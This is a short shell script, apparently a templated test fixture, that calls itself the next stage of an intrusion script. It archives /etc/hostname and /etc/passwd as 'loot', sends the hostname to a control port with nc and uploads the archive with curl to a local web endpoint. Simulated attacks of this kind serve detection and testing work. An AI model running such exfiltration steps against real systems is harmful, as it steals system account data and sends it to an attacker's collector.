#!/bin/sh
# The next stage of intrusion.sh: it calls home, collects something and carries it off.
tar -cf {dir}/tmp/loot -C /etc hostname passwd
nc 127.0.0.1 {control} < /etc/hostname
curl -s --data-binary @{dir}/tmp/loot http://127.0.0.1:{web}/in
exit 0
